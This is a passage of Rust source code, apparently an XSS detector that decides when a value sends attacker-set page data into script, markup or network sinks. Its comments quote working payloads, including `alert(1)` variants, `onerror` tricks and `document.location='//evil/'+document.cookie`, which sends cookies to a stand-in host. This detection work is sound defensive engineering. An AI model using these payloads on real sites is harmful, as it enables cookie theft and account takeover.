fn words_side_by_side_before(b: &[u8], st: usize) -> bool {
    let from = st.saturating_sub(MAX_LINE_BACK);
    let line = match memchr::memrchr2(b'\n', b'\r', &b[from..st]) {
        Some(p) => from + p + 1,
        // a line cut by the window may start inside a string: no judgement
        None if from > 0 => return false,
        None => 0,
    };
    let mut found = false;
    let mut prev_word: Option<&[u8]> = None;
    let mut i = line;
    while i < st {
        let c = b[i];
        match c {
            b'\'' | b'"' | b'`' => {
                // the sink itself inside a string, or an unclosed one: no judgement
                let Some(q) = memchr::memchr(c, &b[i + 1..st]) else {
                    return false;
                };
                i += q + 2;
                prev_word = None;
                continue;
            }
            b'<' | b'>' => return false,
            b'/' if b.get(i + 1) == Some(&b'/') => return false,
            b'*' if b.get(i + 1) == Some(&b'/') => {
                found = false;
                prev_word = None;
                i += 2;
                continue;
            }
            b' ' | b'\t' => {
                i += 1;
                continue;
            }
            _ => {}
        }
        if !is_ident_start(c) {
            prev_word = None;
            i += 1;
            continue;
        }
        let ws = i;
        while i < st && is_ident(b[i]) {
            i += 1;
        }
        let word = &b[ws..i];
        let k = skip_blanks(b, i);
        let assigned = b.get(k) == Some(&b'=') && b.get(k + 1) != Some(&b'=');
        if let Some(p) = prev_word {
            if !assigned && !joins_statement_words(p) && !joins_statement_words(word) {
                found = true;
            }
        }
        prev_word = Some(word);
    }
    found
}

/// Spaces and tabs from `i` on (not line breaks).
fn skip_blanks(b: &[u8], mut i: usize) -> usize {
    while i < b.len() && matches!(b[i], b' ' | b'\t') {
        i += 1;
    }
    i
}

/// [`joins_words`], and the keywords that stand before or after another word in statements
/// and declarations (`else alert(1)`, `import x from …`, `class A extends B`).
pub(crate) fn joins_statement_words(w: &[u8]) -> bool {
    joins_words(w)
        || matches!(
            w,
            b"else"
                | b"do"
                | b"case"
                | b"export"
                | b"default"
                | b"extends"
                | b"class"
                | b"import"
                | b"from"
                | b"as"
                | b"get"
                | b"set"
                | b"static"
                | b"debugger"
        )
}

/// Page data an attacker sets from outside (the URL fragment and query, the window name a
/// framing page chose, the cookie), each with whether a bare name may stand for it (`name`
/// is `window.name` in a browser script, but too common a word to count before `$(`).
const PAGE_SOURCES: [(&[u8], bool); 7] = [
    (b"location.hash", true),
    (b"location.search", true),
    (b"location.href", false),
    (b"document.cookie", true),
    (b"document.referrer", true),
    (b"window.name", true),
    (b"name", false),
];

/// Characters looked back from a source for the call it is an argument of.
const SOURCE_CALL_REACH: usize = 128;

/// Occurrences of sources examined per value by [`source_into_sink`].
const MAX_SOURCES: usize = 16;

/// `$('body').html(location.hash.slice(1))`, `Function(name)()`, `postMessage(document.cookie,'*')`:
/// data the attacker sets from outside the page handed straight to a call that parses it as
/// markup (jQuery's `$()`/`.html()`/`.append()`), compiles it as code (`Function`, `eval`), or
/// sends it off the page (`.send()`, `postMessage`, `sendBeacon`). The call is the innermost
/// one whose parentheses hold the source. The same calls with the page's own values
/// (`$('#id').hide()`, `.html(content)`), the sources read into harmless calls
/// (`console.log(document.cookie)`, `encodeURIComponent(location.href)`) and Make's `$(name)`
/// move nothing from the attacker into a sink.
pub fn source_into_sink(s: &str) -> bool {
    // (each source's searcher is built once: `memmem::find` would build one per call)
    static FINDERS: std::sync::LazyLock<Vec<memchr::memmem::Finder<'static>>> =
        std::sync::LazyLock::new(|| {
            PAGE_SOURCES
                .iter()
                .map(|(src, _)| memchr::memmem::Finder::new(src))
                .collect()
        });
    let b = s.as_bytes();
    if !may_name_source(b) {
        return false;
    }
    let mut seen = 0;
    for (&(src, strong), finder) in PAGE_SOURCES.iter().zip(FINDERS.iter()) {
        let mut from = 0;
        while let Some(p) = finder.find(&b[from..]).map(|p| p + from) {
            from = p + 1;
            seen += 1;
            if seen > MAX_SOURCES {
                return false;
            }
            let end = p + src.len();
            let before_ok = p == 0 || !is_ident(b[p - 1]);
            if !before_ok || b.get(end).is_some_and(|&c| is_ident(c)) {
                continue;
            }
            // (a bare `name` counts only as the whole argument of a code sink)
            let bare = src == b"name";
            if bare && (p >= 1 && b[p - 1] == b'.' || b.get(end) != Some(&b')')) {
                continue;
            }
            // decoding calls hand the attacker's text on unchanged in meaning
            let mut at = p;
            let mut callee = None;
            for _ in 0..4 {
                callee = enclosing_callee(b, at);
                match callee {
                    Some((b"decodeURIComponent" | b"decodeURI" | b"unescape" | b"atob", st)) => {
                        at = st;
                    }
                    _ => break,
                }
            }
            let Some((callee, _)) = callee else {
                continue;
            };
            let code = matches!(
                callee,
                b"Function" | b"eval" | b"setTimeout" | b"setInterval" | b"execScript"
            );
            let markup_or_out = matches!(
                callee,
                b"$" | b"jQuery"
                    | b"html"
                    | b"append"
                    | b"prepend"
                    | b"after"
                    | b"before"
                    | b"replaceWith"
                    | b"send"
                    | b"postMessage"
                    | b"sendBeacon"
            );
            if code || (markup_or_out && (strong || !bare)) {
                return true;
            }
        }
    }
    false
}

/// Words one of which every [`PAGE_SOURCES`] entry contains (`location.hash`, `document.cookie`,
/// `window.name`, `name`, …).
const SOURCE_WORDS: [&[u8]; 3] = [b"location", b"document", b"name"];

/// Whether `b` may hold a [`PAGE_SOURCES`] entry: one vectorized pass for the words of
/// [`SOURCE_WORDS`], instead of a substring search per source on every value with a
/// parenthesis (most name none). Every source contains one of the words, so without them
/// [`source_into_sink`] finds no occurrence and answers `false`. `true` where the CPU has
/// no vector unit for the searcher.
fn may_name_source(b: &[u8]) -> bool {
    static WORDS: std::sync::LazyLock<Option<aho_corasick::packed::Searcher>> =
        std::sync::LazyLock::new(|| crate::search::packed_words(SOURCE_WORDS));
    WORDS.as_ref().is_none_or(|w| w.find(b).is_some())
}

/// The last name of the callee whose argument list holds byte `p` of `b` innermost (`html`
/// in `$('b').html(x.slice(1))` for `x`) and where that name starts, looking back at most [`SOURCE_CALL_REACH`] bytes.
fn enclosing_callee(b: &[u8], p: usize) -> Option<(&[u8], usize)> {
    let lo = p.saturating_sub(SOURCE_CALL_REACH);
    let mut depth = 0usize;
    let mut k = p;
    while k > lo {
        k -= 1;
        match b[k] {
            b')' => depth += 1,
            b'(' if depth > 0 => depth -= 1,
            b'(' => {
                let e = b[..k].trim_ascii_end().len();
                let mut st = e;
                while st > 0 && is_ident(b[st - 1]) && e - st < 32 {
                    st -= 1;
                }
                return (st < e).then(|| (&b[st..e], st));
            }
            _ => {}
        }
    }
    None
}

/// The value is itself a script call through a sink: `alert(1)`, `alert`1``,
/// `document.location='//evil/'+document.cookie`, `top['al'+'ert'](1)`.
/// `m`: the byte classes of `s` ([`super::classes`]).
pub fn sink_call(s: &str, m: u32, sinks: &mut Sinks) -> bool {
    let t = trim_statement_start(s.as_bytes());
    // `A=alert;A(1)`, `(alert)(1)`, `[1].find(alert)`, `a{b:`…alert(1)…`}`: a sink
    // called, bound or passed in code (the value has code punctuation around it)
    // (a value that names no direct sink, as most prose and markup, skips this rule: its
    // `sinks.any` below is false, so neither the code test nor the mention scan is needed)
    let code_like = sinks.may_any(s.as_bytes())
        && (code_punctuation(s.as_bytes(), m)
            // `with(location)with(hash)eval(…)`: a call right after a parenthesis
            || memchr::memchr_iter(b')', t)
                .any(|p| t.get(p + 1).is_some_and(|&c| is_ident_start(c)))
            || sink_passed_to_method(s.as_bytes()));
    if code_like && sinks.any(s.as_bytes()) && mentions_sink(s.as_bytes(), false, true) {
        return true;
    }
    if m & super::class::LBRACE != 0 && substitution_acts(s.as_bytes()) {
        return true;
    }
    // (a value that is nothing but a sink called with the page's own variables is a
    // snippet or a label, [`page_variable_call`])
    let lone = s.trim_start().len() == t.len();
    if (statement_acts(t) && !(lone && page_variable_call(t))) || opens_other_site(t) {
        return true;
    }
    // `#alert(1)`, `?alert(1)`: a page that runs its URL's fragment or query as script
    // (`eval(location.hash.slice(1))`, `eval(location.search.substr(1))`) strips the
    // marker first, so what follows it is the whole script; a hashtag, a colour or a C
    // directive (`#define X(a)`) names no sink and stays text.
    if let [b'#' | b'?', rest @ ..] = s.trim_start().as_bytes() {
        if rest.first().is_some_and(|&c| is_ident_start(c))
            && statement_acts(rest)
            && !page_variable_call(rest)
        {
            return true;
        }
    }
    // `void alert(1)`: `void` evaluates its operand (`void print()` is also a C++
    // declaration: only the sinks count here)
    if let Some(rest) = t.strip_prefix(b"void") {
        let r = skip_ws(rest, 0);
        if r > 0 && statement_acts(&rest[r..]) {
            return true;
        }
    }
    if m & (super::class::EQ | super::class::COLON) != 0 && onerror_then_throw(t) {
        return true;
    }
    if location_from_window_data(t) {
        return true;
    }
    // `1-alert(1)`, `1?alert(1):0`, `null||alert(1)`: a literal heads the expression (a
    // numeric JS context)
    // (or a string literal: `'',alert(1)` where the page writes the value as an expression)
    if t.first().is_some_and(|c| {
        c.is_ascii_digit() || matches!(c, b't' | b'f' | b'n' | b'u' | b'N' | b'I' | b'\'' | b'"')
    }) && numeric_operands_act(t)
    {
        return true;
    }
    // a later statement of a script the value is (`x=…;document.body.appendChild(x)`)
    // outside the bodies of functions it defines but never calls, as in code samples
    // and outside code-element text
    // (`t` is a tail of `s`: without a `;` in `s` there is no later statement)
    m & super::class::SEMI != 0
        && memchr::memchr_iter(b';', t).take(MAX_STATEMENTS).any(|p| {
            let stmt = trim_statement_start(&t[p + 1..]);
            statement_acts(stmt)
                && !in_uninvoked_function(t, p)
                && !in_code_sample_text(t, t.len() - stmt.len())
        })
}

/// Parentheses examined by [`sink_passed_to_method`].
const MAX_METHOD_CALLS: usize = 64;

/// `Promise.resolve(1).then(alert)`, `arr.forEach(alert)`, `p.catch(null, eval)`: a direct
/// sink handed by name to a method (`object.method(` with an identifier, `)` or `]` before
/// the dot), which calls it with its own argument: code, even with no `;`, brace or `=`
/// around it. The sink rules then decide as for any code ([`code_mentions_sink`]: prose
/// beside it, a code element, an uncalled function exempt it).
fn sink_passed_to_method(b: &[u8]) -> bool {
    memchr::memchr_iter(b'(', b)
        .take(MAX_METHOD_CALLS)
        .any(|p| {
            let mut s = p;
            while s > 0 && is_ident(b[s - 1]) && p - s < 32 {
                s -= 1;
            }
            let method = s >= 2
                && b[s - 1] == b'.'
                && (is_ident(b[s - 2]) || matches!(b[s - 2], b')' | b']' | b'\'' | b'"' | b'`'));
            // `addEventListener('load',alert)`, `requestAnimationFrame(alert)`: a browser
            // function that registers what it is given and calls it later, reached as a
            // global (the window's own)
            let global = s < p
                && (s == 0 || !(is_ident(b[s - 1]) || b[s - 1] == b'.'))
                && registers_callback(&b[s..p]);
            if !(method || global) {
                return false;
            }
            // each argument that is a name alone; the others (`'load'`, `/1/`, `[1]`,
            // `null`) are skipped over their quotes and brackets
            let mut a = skip_ws(b, p + 1);
            for _ in 0..4 {
                let mut e = a;
                while e < b.len() && is_ident(b[e]) && e - a < 24 {
                    e += 1;
                }
                let after = skip_ws(b, e);
                if matches!(b.get(after), Some(b')' | b',')) {
                    if called_with_data(&b[a..e]) {
                        return true;
                    }
                    if b[after] == b')' {
                        return false;
                    }
                    a = skip_ws(b, after + 1);
                    continue;
                }
                match skip_argument(b, a) {
                    Some(n) if b.get(n) == Some(&b',') => a = skip_ws(b, n + 1),
                    _ => return false,
                }
            }
            false
        })
}

/// Bytes of one argument [`skip_argument`] reads.
const MAX_ARGUMENT: usize = 96;

/// The end of the call argument starting at `a` (at its `,` or `)` at depth zero), over
/// quoted strings, regular-expression-free brackets and plain bytes; `None` when it runs
/// past [`MAX_ARGUMENT`] bytes or the value.
fn skip_argument(b: &[u8], a: usize) -> Option<usize> {
    let end = b.len().min(a + MAX_ARGUMENT);
    let mut depth = 0usize;
    let mut quote = 0u8;
    let mut k = a;
    while k < end {
        let c = b[k];
        if quote != 0 {
            if c == b'\\' {
                k += 1;
            } else if c == quote {
                quote = 0;
            }
        } else {
            match c {
                b'\'' | b'"' | b'`' => quote = c,
                b'(' | b'[' | b'{' => depth += 1,
                b')' | b']' | b'}' if depth > 0 => depth -= 1,
                b',' | b')' if depth == 0 => return Some(k),
                b']' | b'}' => return None,
                _ => {}
            }
        }
        k += 1;
    }
    None
}

/// `setImmediate` (Node, old IE): like `setTimeout`, it runs what it is given later, so it
/// is never a plain call. (`setTimeout`, `setInterval` and `execScript` are sinks already:
/// [`names_sink`] names them, and the caller asks it first.)
fn registers_callback_sink(name: &[u8]) -> bool {
    name == b"setImmediate"
}

/// Browser functions that keep the function they are given and call it later (on an
/// event, a frame, a microtask, idle time).
fn registers_callback(name: &[u8]) -> bool {
    matches!(
        name,
        b"addEventListener"
            | b"requestAnimationFrame"
            | b"requestIdleCallback"
            | b"queueMicrotask"
            | b"setTimeout"
            | b"setInterval"
            | b"setImmediate"
    )
}

/// Query parameters read by [`jsonp_callback_sink`].
const MAX_QUERY_PARAMS: usize = 32;

/// `?jsonp=alert`, `callback=alert&id=1`: a JSONP endpoint writes its callback parameter as
/// the name of the function its script calls (`alert({…})`), so a direct sink there is
/// called with the response, though the value holds no call syntax. The parameter is named
/// for what it does (`callback`, `jsonp`, `cb`, `jsoncallback`…), stands at the start of the
/// value or after `?`, `&` or `;`, and its value is the sink's name alone or its member
/// (`alert.call`). A word elsewhere (`alert the team`, `callback=handleData`) is no call.
pub fn jsonp_callback_sink(v: &str) -> bool {
    let b = v.as_bytes();
    memchr::memchr_iter(b'=', b)
        .take(MAX_QUERY_PARAMS)
        .any(|p| {
            // every name taken below ends with `callback`, `jsonp`, `cb` (so does
            // `jsonp_cb`) or is `callbackname`, in any case, and the name ends right before
            // the `=`: a parameter ending otherwise (`class=`, `href=`, `id=`) is none, and
            // the walk back over its name is skipped
            if !callback_suffix(&b[..p]) {
                return false;
            }
            let mut s = p;
            while s > 0 && (b[s - 1].is_ascii_alphanumeric() || b[s - 1] == b'_') && p - s < 32 {
                s -= 1;
            }
            if !(s == 0 || matches!(b[s - 1], b'?' | b'&' | b';')) {
                return false;
            }
            let name = b[s..p].to_ascii_lowercase();
            let callback_name = name.ends_with(b"callback")
                || name.ends_with(b"jsonp")
                || matches!(&name[..], b"cb" | b"jsonp_cb" | b"callbackname");
            if !callback_name {
                return false;
            }
            let mut e = p + 1;
            while e < b.len() && is_ident(b[e]) && e - p < 24 {
                e += 1;
            }
            called_with_data(&b[p + 1..e])
                && matches!(b.get(e), None | Some(b'&' | b'#' | b'.' | b';'))
        })
}

/// Whether `head` ends with a suffix every callback parameter name of
/// [`jsonp_callback_sink`] ends with: `callback`, `jsonp`, `cb` or `callbackname`, in any
/// case.
fn callback_suffix(head: &[u8]) -> bool {
    let ends = |suffix: &[u8]| {
        head.len() >= suffix.len() && head[head.len() - suffix.len()..].eq_ignore_ascii_case(suffix)
    };
    // (one byte first: most parameter names end in none of `k`, `p`, `b`, `e`)
    match head.last().map(|&c| c | 0x20) {
        Some(b'k') => ends(b"callback"),
        Some(b'p') => ends(b"jsonp"),
        Some(b'b') => ends(b"cb"),
        Some(b'e') => ends(b"callbackname"),
        _ => false,
    }
}

/// A direct sink that acts on the value it is called with (a dialog, code or a timer's
/// string): `fetch`, `atob` and `import` handed data only read it (`urls.map(fetch)`,
/// `parts.map(atob)` are ordinary code).
fn called_with_data(name: &[u8]) -> bool {
    direct_sink(name) && !matches!(name, b"fetch" | b"atob" | b"import")
}

/// Whether `v` is one statement that the rules above settle as harmless browser code: a
/// member of a browser global called with [`plain_operand`]s or assigned one, the result at
/// most read (`document.getElementById('main')`, `document.title = 'Home'`). Nothing in it
/// reaches a sink, so a statistical second opinion has nothing left to find.
pub(super) fn settled_statement(v: &str) -> bool {
    let mut b = v.trim().as_bytes();
    if let Some(x) = b.strip_suffix(b";") {
        b = x;
    }
    if b.len() > 256 || memchr::memchr3(b';', b'\n', b'\r', b).is_some() {
        return false;
    }
    let Some((_any, _direct, member, e)) = chain(b, 0) else {
        return false;
    };
    let root_end = b.iter().position(|&c| !is_ident(c)).unwrap_or(b.len());
    let root = &b[..root_end];
    member
        && root_global(root)
        && window_alias_len(b).is_none()
        && !root.eq_ignore_ascii_case(b"console")
        && inert_member_call(&b[..e], &b[skip_ws(b, e)..])
}

/// Whether a framework's event or expression attribute value (`ng-click`, `v-on:`, `@click`)
/// acts through a sink when the framework evaluates it: the value read as a script
/// ([`sink_call`]), where `$event.view` stands for the window.
pub(super) fn expression_acts(v: &str) -> bool {
    sink_call(v, super::classes(v.as_bytes()), &mut Sinks::new())
}

/// Whether a Knockout `data-bind` value calls a direct sink: the bindings are evaluated as
/// code, and a function given to an event binding (`event: {mouseover: function(){…}}`,
/// `click: function(){…}`) is called when the event fires, so a call in its body runs.
pub(super) fn binding_acts(v: &str) -> bool {
    let b = v.as_bytes();
    direct_sink_runs(b).next().is_some() && mentions_sink(b, true, false)
}

/// Statements after `;` examined by [`sink_call`].
const MAX_STATEMENTS: usize = 16;

/// `b` without the spaces and unary or separator punctuation that may precede an expression.
/// JavaScript also ends a line at U+2028 and U+2029 (LINE and PARAGRAPH SEPARATOR, `E2 80
/// A8`/`A9`), so reflected into a `//` comment or a legacy string they start code as `\n`
/// does (`\u{2028}alert(1)//`).
fn trim_statement_start(b: &[u8]) -> &[u8] {
    let mut n = 0;
    // (each step drops at least one byte: bounded by the length)
    while n < b.len() {
        let c = b[n];
        if c == b'*' && b.get(n + 1) == Some(&b'/') {
            // `*/alert(1)/*`: closes the `/* … */` comment the value is reflected into
            // (analytics snippets echo the user agent or referrer there); code follows
            n += 2;
        } else if c.is_ascii_whitespace()
            || matches!(
                c,
                b';' | b'(' | b'+' | b'-' | b'!' | b'~' | b'*' | b'|' | b'&' | b','
            )
        {
            n += 1;
        } else if c == 0xe2
            && b.get(n + 1) == Some(&0x80)
            && matches!(b.get(n + 2), Some(0xa8 | 0xa9))
        {
            n += 3;
        } else {
            break;
        }
    }
    &b[n..]
}

/// Whether the expression at the start of `b` calls or assigns through a sink:
/// `alert(1)`, `document.location='//x'`, `top['al'+'ert'](1)`. Optional chaining
/// (`window?.alert?.(1)`, `top?.["alert"](1)`) reaches the same member and makes the same
/// call as the plain chain whenever the object exists, as the browser's globals do: the
/// chain is read again with each `?.` as the plain access.
fn statement_acts(b: &[u8]) -> bool {
    statement_acts_plain(b) || {
        let head = &b[..b.len().min(MAX_OPTIONAL_CHAIN)];
        // Most statements have no `?.` to rewrite: [`without_optional_chaining`] would copy
        // the head unchanged, so read the head in place (no copy, no allocation).
        if first_optional_chain(head).is_none() {
            head.len() < b.len() && statement_acts_plain(head)
        } else {
            let plain = without_optional_chaining(b);
            plain.len() < b.len() && statement_acts_plain(&plain)
        }
    }
}

/// The first `?.` that [`without_optional_chaining`] rewrites in `b`, found from its rarer
/// `?`: none means the rewrite is `b` itself.
fn first_optional_chain(b: &[u8]) -> Option<usize> {
    memchr::memchr_iter(b'?', b).find(|&i| {
        b.get(i + 1) == Some(&b'.')
            && b.get(i + 2)
                .is_some_and(|&c| c == b'(' || c == b'[' || is_ident_start(c))
    })
}

/// Bytes of a statement rewritten by [`without_optional_chaining`].
const MAX_OPTIONAL_CHAIN: usize = 1024;

/// `b` (its first [`MAX_OPTIONAL_CHAIN`] bytes) with each optional-chaining `?.` written as
/// the plain access: `?.name` as `.name`, `?.(` as `(`, `?.[` as `[`. A `?` before `.`
/// and a digit is a conditional (`a?.5:1`) and stays.
fn without_optional_chaining(b: &[u8]) -> Vec<u8> {
    let b = &b[..b.len().min(MAX_OPTIONAL_CHAIN)];
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'?' && b.get(i + 1) == Some(&b'.') {
            match b.get(i + 2) {
                Some(b'(' | b'[') => {
                    i += 2;
                    continue;
                }
                Some(&c) if is_ident_start(c) => {
                    i += 1;
                    continue;
                }
                _ => {}
            }
        }
        out.push(b[i]);
        i += 1;
    }
    out
}

/// `Function("ale"+"rt(1)")()`, `new Function(atob('…'))()`: the `Function` constructor
/// called by its global name compiles its (last) argument as a function body, and the call
/// right after runs it, whatever string expression built the body (concatenation, a decoder,
/// a variable). The same construct as `x.constructor.constructor(code)()` reached through a
/// prototype. A constructor called and not invoked (`Function("a", "return a")`), an empty
/// body (`Function()()`), or a member named `Function` (`ns.Function(…)`) runs nothing the
/// value wrote.
fn function_constructor_called(b: &[u8]) -> bool {
    let mut t = b;
    if let Some(r) = t.strip_prefix(b"new") {
        let k = skip_ws(r, 0);
        if k == 0 {
            return false;
        }
        t = &r[k..];
    }
    let Some(r) = t.strip_prefix(b"Function") else {
        return false;
    };
    let a = skip_ws(r, 0);
    let args = &r[a..];
    args.first() == Some(&b'(')
        && args.get(skip_ws(args, 1)).is_some_and(|&c| c != b')')
        && calls_the_result(args)
}

/// [`statement_acts`] for a chain written with plain accesses.
fn statement_acts_plain(b: &[u8]) -> bool {
    if b.first().is_some_and(|&c| c == b'F' || c == b'n') && function_constructor_called(b) {
        return true;
    }
    let Some((any_sink, direct, member, e)) = chain(b, 0) else {
        return false;
    };
    if !any_sink {
        return false;
    }
    let e2 = skip_ws(b, e);
    if direct && e2 == e && b[e..].starts_with(b"?.(") {
        // optional call `alert?.(1)`
        return !prose_call(&b[e + 2..]);
    }
    let ok_shape = if direct {
        b.get(e2).is_some_and(|&c| c == b'(' || c == b'`')
            && e2 == e
            && !inert_call_args(&b[..e], &b[e2..])
    } else {
        member && !inert_member_call(&b[..e], &b[e2..])
    };
    ok_shape
        && call_or_assign(b, e2)
        && !(b.get(e2) == Some(&b'(') && prose_call(&b[e2..]))
        && !(b.get(e2) == Some(&b'=') && same_origin_path_literal(&b[e2 + 1..]))
}

/// `onerror` (or `window.onerror`) assigned a function by name, then a `throw` as the next
/// statement, in or after the block of the assignment: `{onerror=print}throw 1`,
/// `onerror=alert;throw 1`. The throw reaches the global handler, which the browser calls
/// with the thrown value: whatever function was named runs, sink or not, without a
/// parenthesis. At most 8 `onerror` occurrences are read.
fn onerror_then_throw(b: &[u8]) -> bool {
    // (built once: `memmem::find_iter` builds its searcher on every call)
    static ONERROR: std::sync::LazyLock<memchr::memmem::Finder<'static>> =
        std::sync::LazyLock::new(|| memchr::memmem::Finder::new(b"onerror"));
    ONERROR.find_iter(b).take(8).any(|p| {
        if p > 0 && is_ident(b[p - 1]) {
            return false;
        }
        // `onerror=alert`, or `Object.assign(window,{onerror:alert})`: the property set on
        // the window by an object literal
        let k = skip_ws(b, p + 7);
        let assigned = match b.get(k) {
            Some(b'=') => b.get(k + 1) != Some(&b'='),
            Some(b':') => b.get(k + 1) != Some(&b':'),
            _ => false,
        };
        if !assigned {
            return false;
        }
        let s = skip_ws(b, k + 1);
        let mut e = s;
        while e < b.len() && is_ident(b[e]) && e - s < 40 {
            e += 1;
        }
        if e == s || !is_ident_start(b[s]) || &b[s..e] == b"function" || &b[s..e] == b"null" {
            return false;
        }
        let mut j = e;
        let mut steps = 0;
        while j < b.len()
            && steps < 8
            && matches!(b[j], b'}' | b')' | b';' | b' ' | b'\t' | b'\n' | b'\r')
        {
            j += 1;
            steps += 1;
        }
        b[j..].starts_with(b"throw") && !b.get(j + 5).is_some_and(|&c| is_ident(c))
    })
}

/// Whether `b` starts with a call of the window's own `print` with no arguments (the print
/// dialog, the proof of execution that replaced `alert`) or `open` given another site
/// ([`opens_other_site`]). Python shares the names (`2 + print(x)`), so it counts only where
/// the caller has already read JavaScript: as an operand after a numeric literal,
/// `1?print():0`.
fn window_function_call(b: &[u8]) -> bool {
    b.starts_with(b"print()") || opens_other_site(b)
}

/// `open('//evil.example/phish')`, `open("https://…")`, `open('javascript:…')`: the window's
/// `open` given a URL of another site or a script scheme opens it as a window of this page
/// (phishing with the page's own opener, or script). Python's `open` takes file names, which
/// neither start with `//` nor carry a scheme.
fn opens_other_site(b: &[u8]) -> bool {
    let Some(rest) = b.strip_prefix(b"open(") else {
        return false;
    };
    let a = skip_ws(rest, 0);
    let Some(&q @ (b'\'' | b'"' | b'`')) = rest.get(a) else {
        return false;
    };
    let lit = &rest[a + 1..];
    let lit = &lit[..memchr::memchr(q, lit).unwrap_or(lit.len())];
    let starts = |p: &[u8]| lit.len() > p.len() && lit[..p.len()].eq_ignore_ascii_case(p);
    let host_start = |k: usize| lit.get(k).is_some_and(|&c| c.is_ascii_alphanumeric());
    (lit.starts_with(b"//") && host_start(2))
        || (starts(b"http://") && host_start(7))
        || (starts(b"https://") && host_start(8))
        || starts(b"javascript:")
}

/// Whether `b` assigns the global `location` from data the attacker sets in the window:
/// `location=name` (the window's name survives navigation, so an attacker's page sets it to
/// `javascript:…` first), `location=top.name`, `location=location.hash.slice(1)`,
/// `location=document.referrer`. Navigating there runs the script. A value such as
/// `location=Paris` or `location=top` (a setting) reads no such data.
fn location_from_window_data(b: &[u8]) -> bool {
    if b.len() < 9 || !b[..8].eq_ignore_ascii_case(b"location") {
        return false;
    }
    let k = skip_ws(b, 8);
    if b.get(k) != Some(&b'=') || b.get(k + 1) == Some(&b'=') {
        return false;
    }
    let r = skip_ws(b, k + 1);
    let mut e = r;
    while e < b.len() && is_ident(b[e]) && e - r < 16 {
        e += 1;
    }
    let root = &b[r..e];
    // (or a `//` comment that hides the rest of the page's line: `location=name//`)
    let ends = |at: usize| {
        let k = skip_ws(b, at);
        matches!(b.get(k), None | Some(b';' | b'+' | b'\n' | b')')) || b[k..].starts_with(b"//")
    };
    if root == b"name" {
        return ends(e);
    }
    // a member of a global that holds what the attacker wrote: its name, the URL's
    // fragment or query, the referrer
    root_global(root)
        && b.get(e) == Some(&b'.')
        && [&b"name"[..], b"hash", b"search", b"referrer"]
            .iter()
            .any(|m| {
                b[e + 1..].starts_with(m) && !b.get(e + 1 + m.len()).is_some_and(|&c| is_ident(c))
            })
}

/// Most numeric operands read before the expression that acts (`1-2-alert(1)`).
const MAX_NUMERIC_OPERANDS: usize = 4;

/// Whether `b` is numeric literals joined by binary operators, then an operand that calls
/// or assigns through a sink ([`statement_acts`]): `1-alert(1)`, `1,top.alert(1)`,
/// `1 in alert(1)`, `1?alert(1):0`. Reflected where the page expects a number (`var
/// page=…;`, `setTimeout(…)`), the operands are evaluated and the call runs. Read by JS's
/// tokens: a literal followed by a letter (`5in`) or an operator that cannot follow a
/// literal (`1=`, `1+=`, `1--`) is a SyntaxError that runs nothing, and prose or math
/// names no sink call there (`1-2`, `3 - f(x)`, `1, alert me`, `5 in total`).
fn numeric_operands_act(b: &[u8]) -> bool {
    let mut i = 0;
    for _ in 0..MAX_NUMERIC_OPERANDS {
        let Some(mut e) = numeric_literal(b, i)
            .or_else(|| literal_keyword(b, i))
            .or_else(|| string_literal(b, i))
        else {
            return false;
        };
        // `1)-alert(1)//`, `1]-…`: brackets of the page's own expression closed first
        let mut closed = 0;
        while closed < 4 && matches!(b.get(e), Some(b')' | b']' | b'}')) {
            e += 1;
            closed += 1;
        }
        let k = skip_ws(b, e);
        let Some(len) = binary_operator(&b[k..]) else {
            return false;
        };
        // a keyword operator needs a blank before it (`5in` is one malformed token)
        if b[k].is_ascii_alphabetic() && k == e {
            return false;
        }
        i = skip_ws(b, k + len);
        if !(b.get(i).is_some_and(u8::is_ascii_digit)
            || literal_keyword(b, i).is_some()
            || string_literal(b, i).is_some())
        {
            let t = trim_statement_start(&b[i..]);
            return statement_acts(t) || window_function_call(t);
        }
    }
    false
}

/// Longest string literal read as an operand by [`numeric_operands_act`].
const MAX_STRING_OPERAND: usize = 128;

/// The end of the single- or double-quoted string literal at `i` (`''`, `"a\"b"`), on one
/// line and at most [`MAX_STRING_OPERAND`] bytes: an operand as a number is. Reflected
/// unquoted into code (`var a = …;`, `f(…)`), `'',alert(1)` is a string, the comma operator
/// and a call that runs; a quote never closed on the line is no literal.
fn string_literal(b: &[u8], i: usize) -> Option<usize> {
    let q = *b.get(i)?;
    if q != b'\'' && q != b'"' {
        return None;
    }
    let mut k = i + 1;
    while k < b.len() && k - i <= MAX_STRING_OPERAND {
        match b[k] {
            c if c == q => return Some(k + 1),
            b'\\' => k += 2,
            b'\n' | b'\r' => return None,
            _ => k += 1,
        }
    }
    None
}

/// The end of the literal keyword at `i` (`true`, `false`, `null`, `undefined`, `NaN`,
/// `Infinity`): an operand as a number is, standing alone as a word.
fn literal_keyword(b: &[u8], i: usize) -> Option<usize> {
    let rest = b.get(i..)?;
    [
        &b"true"[..],
        b"false",
        b"null",
        b"undefined",
        b"NaN",
        b"Infinity",
    ]
    .iter()
    .find(|k| rest.starts_with(k) && !rest.get(k.len()).is_some_and(|&c| is_ident(c)))
    .map(|k| i + k.len())
}

/// The end of the numeric literal at `i`: decimal (`12`, `1.5`, `1e3`, `1_000`, `10n`) or
/// `0x`/`0o`/`0b`; `None` when none starts there or an identifier byte follows it.
fn numeric_literal(b: &[u8], i: usize) -> Option<usize> {
    let digits = |mut k: usize, hex: bool| {
        while b.get(k).is_some_and(|&c| {
            c == b'_'
                || if hex {
                    c.is_ascii_hexdigit()
                } else {
                    c.is_ascii_digit()
                }
        }) {
            k += 1;
        }
        k
    };
    if !b.get(i).is_some_and(u8::is_ascii_digit) {
        return None;
    }
    let mut k =
        if b[i] == b'0' && matches!(b.get(i + 1), Some(b'x' | b'X' | b'o' | b'O' | b'b' | b'B')) {
            digits(i + 2, true)
        } else {
            let mut k = digits(i, false);
            if b.get(k) == Some(&b'.') {
                k = digits(k + 1, false);
            }
            if matches!(b.get(k), Some(b'e' | b'E')) {
                let s = if matches!(b.get(k + 1), Some(b'+' | b'-')) {
                    k + 2
                } else {
                    k + 1
                };
                if b.get(s).is_some_and(u8::is_ascii_digit) {
                    k = digits(s, false);
                }
            }
            k
        };
    if b.get(k) == Some(&b'n') {
        k += 1;
    }
    (!b.get(k).is_some_and(|&c| is_ident(c))).then_some(k)
}

/// The length of the binary operator (or `,` / `?`) at the start of `b`, read as JS's
/// tokenizer does (longest match); `None` for what cannot follow a literal: an assignment
/// (`=`, `+=`), an update (`--`, `++`), a comment (`//`, `/*`) or anything else.
